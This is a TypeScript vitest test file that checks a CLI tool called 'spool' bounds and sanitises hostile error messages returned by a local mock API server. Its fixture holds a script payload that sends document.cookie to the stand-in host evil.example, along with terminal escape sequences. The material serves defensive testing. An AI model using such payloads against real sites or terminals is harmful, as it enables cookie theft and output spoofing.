import { createServer, type Server } from 'node:http'
import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { tempDir, writeMp4 } from './harness.ts'
import { runCli } from './cli-harness.ts'

// Issue 13 point 5: server error text is bounded and made inert before the user sees it. A server that
// answers every call with a 100,000-character description, markup, a script and terminal escapes.
const HUGE = 'Tell me more. '.repeat(7_200).slice(0, 100_000)
const HOSTILE = {
  success: false,
  error: {
    code: 400,
    message: '<script>document.location="https://evil.example/"+document.cookie</script><h1>Bad</h1>',
    description: `\u001b[2J\u001b[31mALERT\u001b[0m\u001b]0;owned\u0007 ${HUGE}`,
  },
}

let server: Server
let apiUrl: string
let dir: string

beforeAll(async () => {
  dir = tempDir('spool-hostile-')
  server = createServer((req, res) => {
    req.resume()
    res.writeHead(400, { 'content-type': 'application/json' })
    res.end(JSON.stringify(HOSTILE))
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  apiUrl = `http://127.0.0.1:${(server.address() as { port: number }).port}/v1`
})
afterAll(async () => {
  await new Promise<void>((resolve) => server.close(() => resolve()))
})

const env = (home: string): NodeJS.ProcessEnv => ({
  ...process.env,
  SPOOL_HOME: home,
  FASTPIX_API_URL: apiUrl,
  FASTPIX_USERNAME: 'hostile-user',
  FASTPIX_PASSWORD: 'hostile-secret',
})

function expectShortAndInert(output: string): void {
  expect(output.length).toBeLessThan(3_000)
  expect(output).not.toMatch(/[<>]/)
  expect(output).not.toMatch(/script|cookie|evil\.example/i)
  // eslint-disable-next-line no-control-regex
  expect(output).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/)
  expect(output).not.toMatch(/ at .*\.ts:\d+/) // no stack trace
}

test('spool media list: the server wording comes out short and inert', async () => {
  const run = await runCli(['media', 'list'], env(join(dir, 'home-list')))
  expect(run.code).not.toBe(0)
  expectShortAndInert(run.stdout + run.stderr)
  expect(run.stdout + run.stderr).toMatch(/Bad/)
}, 30_000)

test('spool upload: the refused create is reported short and inert, in text and JSON', async () => {
  const file = join(dir, 'clip.mp4')
  writeMp4(file, 64 * 1024)
  writeFileSync(join(dir, 'note.txt'), 'x')
  for (const json of [false, true]) {
    const run = await runCli(['upload', file, ...(json ? ['--json'] : [])], env(join(dir, `home-up-${json}`)))
    expect(run.code).toBe(1)
    expectShortAndInert(run.stdout + run.stderr)
  }
}, 60_000)
